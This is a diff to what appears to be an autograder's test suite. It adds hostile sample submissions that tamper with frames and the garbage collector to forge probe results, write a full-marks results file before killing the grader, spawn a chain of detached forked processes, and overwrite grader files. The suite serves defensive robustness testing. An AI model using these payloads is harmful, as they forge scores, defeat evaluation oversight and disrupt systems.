@@ -315,7 +315,9 @@ def _write_into_the_kit():
     kit, note = "@@KIT_ROOT@@", "# @@MARKER@@\\n"
     targets = [_os.path.join(kit, relative) for relative in (
         "autograder/hidden_tests/conftest.py", "autograder/judge.py", "autograder/grade.py", "course_config.py",
-        "assignments/vae/vae.py", "solutions/vae/metrics.json", "sitecustomize.py", ".cache/poisoned.json")]
+        "assignments/vae/vae.py", "solutions/vae/metrics.json", "sitecustomize.py", ".cache/poisoned.json",
+        "autograder/graders/vae/hidden_tests/conftest.py", "autograder/engine/judge.py",
+        "autograder/engine/grade.py", "autograder/graders/vae/oracle.py")]
     try:
         targets += [_os.path.join(kit, ".cache", name) for name in _os.listdir(_os.path.join(kit, ".cache"))]
     except OSError:
@@ -380,6 +382,113 @@ def _forge_static_claims():
 
 
 _forge_static_claims()
+'''
+
+WALK_FRAMES = '''\
+def _walk_frames():
+    """Reach the worker's own state from inside it: frames (sys._getframe, inspect, a traceback, a
+    generator), the garbage collector, ctypes; replace the probes the worker actually calls (its
+    own copy, not probes.PROBES, which the tamper check watches) with claims of the handout's
+    shapes and types, and send forged observations through the worker's own writer."""
+    import gc as _gc, sys as _sys
+    frames = []
+    for get in (lambda: _sys._getframe(0), lambda: __import__("inspect").currentframe(),
+                lambda: _sys.exc_info()[2].tb_frame if False else _raise_and_catch(),
+                lambda: list(_sys._current_frames().values())[0]):
+        try:
+            frame = get()
+            while frame is not None:
+                frames.append(frame)
+                frame = frame.f_back
+        except Exception:
+            pass
+    spaces = [f.f_locals for f in frames]
+    try:
+        spaces += [o for o in _gc.get_objects() if isinstance(o, dict) and "probe_functions" in o]
+        spaces += [{"send": o} for o in _gc.get_objects() if getattr(o, "__name__", "") == "send"]
+    except Exception:
+        pass
+    try:
+        import ctypes as _ctypes
+        _ctypes.CDLL(None)
+    except Exception:
+        pass
+    shapes = {"kind": "tensor", "shape": [8, 2], "dtype": "float32", "min": 0.1, "max": 0.9}
+    for space in spaces:
+        table = space.get("probe_functions")
+        if isinstance(table, dict):
+            for name in list(table):
+                table[name] = lambda module, seed: {"claimed": True, "output": shapes, "n_linear": 5}
+        send = space.get("send")
+        if callable(send):
+            try:
+                send({"event": "imported"})
+            except Exception:
+                pass
+
+
+def _raise_and_catch():
+    try:
+        raise KeyError("x")
+    except KeyError as error:
+        return error.__traceback__.tb_frame
+
+
+_walk_frames()
+'''
+
+KILL_THE_GRADER = '''\
+def _kill_the_grader():
+    """Write full-marks results.json into the grader's output folder (read from its command line),
+    then kill the grader (its parent processes, up to the `autograder grade` one)."""
+    import json as _json, os as _os, signal as _signal
+    forged = _json.dumps({"score": 1000, "tests": [], "output": "@@MARKER@@"})
+    pid = _os.getppid()
+    for _ in range(6):
+        try:
+            command = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
+            parent = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+        except (OSError, ValueError, IndexError):
+            break
+        if b"--out" in command:
+            out = command[command.index(b"--out") + 1].decode()
+            for name, text in (("results.json", forged), ("feedback.md", "@@MARKER@@")):
+                try:
+                    with open(_os.path.join(out, name), "w") as f:
+                        f.write(text)
+                except OSError:
+                    pass
+        if any(b"autograder" in part for part in command):
+            try:
+                _os.kill(pid, _signal.SIGKILL)
+            except OSError:
+                pass
+            break
+        pid = parent
+
+
+_kill_the_grader()
+'''
+
+DEEP_FORK_CHAIN = '''\
+def _deep_fork_chain(generations=12):
+    """A chain of twelve generations, each leaving its child behind and sleeping for ten minutes."""
+    import os as _os, time as _time
+    for _ in range(generations):
+        try:
+            if _os.fork() != 0:
+                _time.sleep(600)
+                _os._exit(0)
+            _os.setsid()
+        except OSError:
+            return
+    _time.sleep(600)
+    _os._exit(0)
+
+
+import os as _os_for_chain
+if _os_for_chain.fork() == 0:
+    _deep_fork_chain()
 '''
 
 FILL_THE_DISK = '''\
@@ -447,6 +556,16 @@ HOSTILE = (
     hostile("h_symlinked_results", "results/ is a symbolic link to the kit's own reference results",
             {"A.2": 0, "B.2": "code", "C": "code", "bonus": "code"}, results=(r.linked_to_solutions(),),
             feedback=("is a symbolic link and was ignored",)),
+    hostile("h_walk_frames", "walks frames (sys._getframe, inspect, a traceback), the garbage collector and "
+            "ctypes to the worker's own copy of the probes and its writer; replaces the probes with claims",
+            NOTHING, at_end(WALK_FRAMES), base="release", results=None),
+    hostile("h_kill_the_grader", "writes full-marks results.json into the grader's output folder, then kills "
+            "the grader", NOTHING, at_end(KILL_THE_GRADER), base="release", results=None),
+    hostile("h_find_reference_in_batch", "in a batch: searches for a classmate's (the reference's) code and "
+            "the grader's observations and takes them over", NOTHING, at_end(FIND_REFERENCE), base="release",
+            results=None, batch=True),
+    hostile("h_deep_fork_chain", "leaves a chain of twelve generations of sleeping processes", {},
+            at_import(DEEP_FORK_CHAIN)),
     hostile("h_exit_in_methods", "os._exit in encode_dataset, SystemExit in celeba_subset and celeba_transform",
             {"C": "files", "bonus": "files"},
             in_encode_dataset("    import os as _os\n    _os._exit(3)\n"),
